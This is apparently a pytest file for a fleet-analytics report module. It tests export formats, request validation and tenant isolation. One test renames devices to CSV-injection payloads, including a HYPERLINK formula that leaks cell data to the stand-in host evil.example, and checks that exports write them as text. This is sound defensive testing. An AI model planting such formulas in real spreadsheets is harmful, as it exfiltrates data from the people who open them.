"""One report in every format, the same figures in each; bad requests; whose devices a
report may cover."""

import csv
import io
import xml.etree.ElementTree as ET
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from PIL import Image

from analytics.helpers import (
    REPORTS_PATH,
    add_sensor,
    assert_totals_are_the_rows_added_up,
    device_of,
    get_report,
    message,
    report_json,
    set_timezone,
    store,
)
from conftest import RunningServer, Tenant, assert_problem
from fleetplane.analytics import exports

TRIP_REPORTS = ("mileage", "trips", "parkings", "utilization")
DAY = {"from_": "2026-11-05T22:00:00Z", "to": "2026-11-08T22:00:00Z", "group_by": "day"}
SVG = "{http://www.w3.org/2000/svg}"


@pytest.fixture
def engine_tenant(server: RunningServer, tenant: Tenant) -> Tenant:
    """Customer 0 in Riga, both its devices with an ignition sensor and engine time on three
    local days."""
    set_timezone(tenant, 0, "Europe/Riga")
    for number, minutes in enumerate((30, 45)):
        device = device_of(tenant, 0, number)
        add_sensor(tenant, device, "ignition", "ign")
        history = []
        for day in (6, 7, 8):
            history += [
                message(f"2026-11-{day:02d}T08:00:00Z", ign=1),
                message(f"2026-11-{day:02d}T08:{minutes:02d}:00Z", ign=0),
            ]
        store(server, device, history)
    return tenant


def test_json_rows_and_totals(engine_tenant: Tenant) -> None:
    body = report_json(engine_tenant.module_api(0), "engine_hours", **DAY)
    names = [d["name"] for d in engine_tenant.devices[engine_tenant.customers[0]["id"]]]
    assert body["report"] == "engine_hours"
    assert (body["from"], body["to"]) == ("2026-11-05T22:00:00Z", "2026-11-08T22:00:00Z")
    assert body["figures"] == [
        {"name": "engine_seconds", "title": "Engine time", "unit": "s", "total": "sum"}
    ]
    assert [(r["device_name"], r["period"], r["engine_seconds"]) for r in body["rows"]] == [
        (names[0], "2026-11-06", 1800),
        (names[0], "2026-11-07", 1800),
        (names[0], "2026-11-08", 1800),
        (names[1], "2026-11-06", 2700),
        (names[1], "2026-11-07", 2700),
        (names[1], "2026-11-08", 2700),
    ]
    assert body["totals"] == {"engine_seconds": 13500}


def test_csv_holds_the_json_rows(engine_tenant: Tenant) -> None:
    api = engine_tenant.module_api(0)
    body = report_json(api, "engine_hours", **DAY)
    response = get_report(api, "engine_hours", format="csv", **DAY)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        'filename="engine_hours-20261105-20261108.csv"' in response.headers["content-disposition"]
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(body["rows"])
    for read, row in zip(rows, body["rows"], strict=True):
        assert read["device_id"] == row["device_id"]
        assert read["period"] == row["period"]
        assert read["period_start"] == row["period_start"]
        assert int(read["engine_seconds"]) == row["engine_seconds"]


def test_xlsx_has_units_formats_and_a_totals_row(engine_tenant: Tenant) -> None:
    api = engine_tenant.module_api(0)
    body = report_json(api, "engine_hours", **DAY)
    response = get_report(api, "engine_hours", format="xlsx", **DAY)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["content-disposition"].startswith("attachment;")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))  # formulas as written
    values = openpyxl.load_workbook(io.BytesIO(response.content), data_only=True)
    sheet, cached = workbook["Report"], values["Report"]
    header = [cell.value for cell in sheet[1]]
    assert header == ["Device", "Device id", "Period", "Period start", "Period end",
                      "Engine time (h:mm:ss)"]  # fmt: skip
    data = list(cached.iter_rows(min_row=2, max_row=1 + len(body["rows"]), values_only=True))
    for read, row in zip(data, body["rows"], strict=True):
        assert read[0] == row["device_name"] and read[2] == row["period"]
        assert read[5] == timedelta(seconds=row["engine_seconds"])
    assert sheet.cell(2, 6).number_format == "[h]:mm:ss"
    assert sheet.cell(2, 4).number_format == "yyyy-mm-dd hh:mm"
    assert cached.cell(2, 4).value.isoformat() == "2026-11-06T00:00:00"  # local midnight
    total_row = 2 + len(body["rows"])
    assert sheet.cell(total_row, 1).value == "Total"
    assert sheet.cell(total_row, 6).value == f"=SUM(F2:F{total_row - 1})"
    assert cached.cell(total_row, 6).value == timedelta(seconds=body["totals"]["engine_seconds"])
    about = {row[0]: row[1] for row in values["About"].iter_rows(min_row=3, values_only=True)}
    assert about["Time zone"] == "Europe/Riga" and about["Report"] == "engine_hours"


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1+1)"]


def test_device_names_never_become_formulas(engine_tenant: Tenant) -> None:
    """CSV: a text cell starting as a formula gets a leading quote; XLSX: written as text."""
    for number, name in enumerate(FORMULAS):
        device = device_of(engine_tenant, 0, number)
        renamed = engine_tenant.api.patch(f"/api/devices/{device}", json={"name": name})
        assert renamed.status_code == 200, renamed.text
    api = engine_tenant.module_api(0)
    for report in ("engine_hours", "mileage"):
        response = get_report(api, report, format="csv", **DAY)
        assert response.status_code == 200, response.text
        names = {row["device_name"] for row in csv.DictReader(io.StringIO(response.text))}
        assert names == {f"'{name}" for name in FORMULAS}
        response = get_report(api, report, format="xlsx", **DAY)
        sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Report"]
        cells = [sheet.cell(row, 1) for row in range(2, sheet.max_row)]
        assert {cell.value for cell in cells} == set(FORMULAS)
        assert {cell.data_type for cell in cells} == {"s"}  # not "f": no formula


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
        ("\r=1", "'\r=1"), ("Van 1", "Van 1"), ("1-2", "1-2"), ("", ""),
    ],
)  # fmt: skip
def test_csv_text_that_starts_a_formula_is_quoted(text: str, written: str) -> None:
    assert exports.as_text(text) == written


def test_png_chart_is_an_image(engine_tenant: Tenant) -> None:
    response = get_report(engine_tenant.module_api(0), "engine_hours", format="png", **DAY)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "image/png"
    assert response.headers["content-disposition"].startswith("inline;")
    image = Image.open(io.BytesIO(response.content))
    image.verify()
    assert image.format == "PNG"
    assert image.size == (1320, 744)


def svg_texts(content: bytes) -> list[str]:
    root = ET.fromstring(content)
    assert root.tag == f"{SVG}svg"
    return ["".join(element.itertext()) for element in root.iter(f"{SVG}text")]


def test_svg_chart_names_report_range_zone_and_devices(engine_tenant: Tenant) -> None:
    response = get_report(engine_tenant.module_api(0), "engine_hours", format="svg", **DAY)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "image/svg+xml"
    assert "default-src 'none'" in response.headers["content-security-policy"]
    texts = svg_texts(response.content)
    assert "Engine hours" in texts
    assert "06 Nov 2026 00:00 to 09 Nov 2026 00:00  ·  Europe/Riga  ·  by day" in texts
    assert "Engine time (minutes)" in texts  # the axis: seconds read as minutes when short
    names = [d["name"] for d in engine_tenant.devices[engine_tenant.customers[0]["id"]]]
    assert set(names) <= set(texts)  # the legend
    assert {"Fri 06 Nov", "Sat 07 Nov", "Sun 08 Nov"} <= set(texts)


def test_device_names_are_drawn_as_written(engine_tenant: Tenant) -> None:
    names = ["Van $\\frac{1}{$ & <b>", "_spare"]
    for number, name in enumerate(names):
        device = device_of(engine_tenant, 0, number)
        renamed = engine_tenant.api.patch(f"/api/devices/{device}", json={"name": name})
        assert renamed.status_code == 200, renamed.text
    for chart_format in ("png", "svg"):
        response = get_report(
            engine_tenant.module_api(0), "engine_hours", format=chart_format, **DAY
        )
        assert response.status_code == 200, response.text
    texts = svg_texts(response.content)
    assert names[0] in texts
    assert "\u200b_spare" in texts  # in the legend, which skips labels starting with "_"


def test_a_chart_of_many_devices_and_periods_says_what_it_left_out(
    server: RunningServer, tenant: Tenant
) -> None:
    for number in range(10):
        response = tenant.api.post(
            "/api/devices",
            json=tenant.device_body(
                name=f"Truck {number:02d}", customer_id=tenant.customers[0]["id"]
            ),
        )
        assert response.status_code == 201, response.text
    query = {"from_": "2026-01-01T00:00:00Z", "to": "2026-12-01T00:00:00Z", "group_by": "day"}
    response = get_report(tenant.module_api(0), "speeding", format="svg", **query)
    assert response.status_code == 200, response.text
    notes = " ".join(svg_texts(response.content))
    assert "The 10 devices with the highest time speeding of 12 are shown; 2 left out" in notes
    assert "The first 62 of 334 periods are shown (272 later ones left out)" in notes


def test_totals_add_up_over_many_rows(engine_tenant: Tenant) -> None:
    api = engine_tenant.module_api(0)
    for report in ("engine_hours", "idling", "speeding", "fuel", *TRIP_REPORTS):
        for group_by in ("day", "week", "month", "none"):
            query = {"from_": "2026-08-01T00:00:00Z", "to": "2026-11-29T00:00:00Z"}
            body = report_json(api, report, group_by=group_by, **query)
            assert_totals_are_the_rows_added_up(body)


# ---- bad requests ---------------------------------------------------------------------------


def error_fields(body: dict[str, Any]) -> list[Any]:
    return [error["loc"][-1] for error in body["errors"]]


@pytest.mark.parametrize(
    ("report", "query", "field"),
    [
        ("no_such_report", {}, "report"),
        ("engine_hours", {"group_by": "fortnight"}, "group_by"),
        ("engine_hours", {"format": "pdf"}, "format"),
        ("engine_hours", {"from_": "2026-11-02T00:00:00Z", "to": "2026-11-01T00:00:00Z"}, "from"),
        ("engine_hours", {"from_": "2026-11-01T00:00:00Z", "to": "2026-11-01T00:00:00Z"}, "from"),
        ("engine_hours", {"from_": "2025-01-01T00:00:00Z", "to": "2026-01-02T00:00:01Z"}, "to"),
        ("engine_hours", {"from_": "yesterday"}, "from"),
        ("speeding", {"threshold": "-5"}, "threshold"),
        ("fuel", {"smoothing": "0"}, "smoothing"),
    ],
)
def test_bad_requests_name_the_field(
    tenant: Tenant, report: str, query: dict[str, str], field: str
) -> None:
    window = {"from_": "2026-11-01T00:00:00Z", "to": "2026-11-02T00:00:00Z"}
    response = get_report(tenant.module_api(0), report, **(window | query))
    body = assert_problem(response, 422, "validation_failed")
    assert field in error_fields(body), body


def test_a_range_of_366_days_is_allowed(tenant: Tenant) -> None:
    query = {"from_": "2025-01-01T00:00:00Z", "to": "2026-01-02T00:00:00Z", "group_by": "month"}
    report_json(tenant.module_api(0), "engine_hours", **query)


def test_too_many_rows_are_refused(tenant: Tenant) -> None:
    for number in range(140):
        body = tenant.device_body(name=f"Van {number}", customer_id=tenant.customers[0]["id"])
        assert tenant.api.post("/api/devices", json=body).status_code == 201
    query = {"from_": "2025-12-01T00:00:00Z", "to": "2026-12-01T00:00:00Z", "group_by": "day"}
    response = get_report(tenant.module_api(0), "speeding", **query)
    body = assert_problem(response, 422, "validation_failed")
    assert error_fields(body) == ["group_by"]


# ---- whose devices ---------------------------------------------------------------------------


def test_another_customers_or_an_unknown_device_is_not_found(tenant: Tenant) -> None:
    window = {"from_": "2026-11-01T00:00:00Z", "to": "2026-11-02T00:00:00Z"}
    api = tenant.module_api(0)
    mine, theirs = device_of(tenant, 0), device_of(tenant, 1)
    for device_ids in ([theirs], [mine, theirs], ["dev_doesnotexist0000000000"], ["x" * 64]):
        response = get_report(api, "engine_hours", device_id=device_ids, **window)
        assert_problem(response, 404, "not_found")
    assert get_report(api, "engine_hours", device_id=[mine, mine], **window).status_code == 200


def test_all_devices_means_the_customers_own(tenant: Tenant) -> None:
    window = {"from_": "2026-11-01T00:00:00Z", "to": "2026-11-02T00:00:00Z"}
    for index, customer in enumerate(tenant.customers):
        body = report_json(tenant.module_api(index), "speeding", **window)
        assert {row["device_id"] for row in body["rows"]} == {
            device["id"] for device in tenant.devices[customer["id"]]
        }


def test_a_moved_devices_history_stays_with_its_former_customer(
    server: RunningServer, tenant: Tenant
) -> None:
    device = device_of(tenant, 0)
    store(server, device, [message("2026-11-01T10:00:00Z", speed=150),
                           message("2026-11-01T10:01:00Z", speed=10)])  # fmt: skip
    moved = tenant.api.patch(
        f"/api/devices/{device}", json={"customer_id": tenant.customers[1]["id"]}
    )
    assert moved.status_code == 200, moved.text
    window = {"from_": "2026-11-01T00:00:00Z", "to": "2026-11-02T00:00:00Z"}
    body = report_json(tenant.module_api(1), "speeding", device_id=device, **window)
    [row] = body["rows"]
    assert (row["episodes"], row["max_speed"]) == (0, None)
    response = get_report(tenant.module_api(0), "speeding", device_id=device, **window)
    assert_problem(response, 404, "not_found")


def test_the_operation_is_documented_with_its_permission(server: RunningServer) -> None:
    from conftest import shared_client

    document = shared_client(server.base_url).get("/module/analytics/openapi.json").json()
    operation = document["paths"][f"{REPORTS_PATH}/{{report}}"]["get"]
    assert operation["x-permissions"] == ["read:analytics"]
    content = operation["responses"]["200"]["content"]
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert set(content) == {
        "application/json", "text/csv; charset=utf-8", "image/png", "image/svg+xml", xlsx
    }  # fmt: skip
    [report] = [p for p in operation["parameters"] if p["name"] == "report"]
    assert set(TRIP_REPORTS) <= set(report["schema"]["enum"])
    description = operation["description"]
    assert "Not available" not in description
    for figure in ("`distance_km` (km)", "`avg_speed` (km/h)", "`longest_s` (s)",
                   "`utilization_pct` (%)"):  # fmt: skip
        assert figure in description
    figures = document["components"]["schemas"]["FigureOut"]["properties"]
    assert "ratio" in figures and "`ratio`" in figures["total"]["description"]
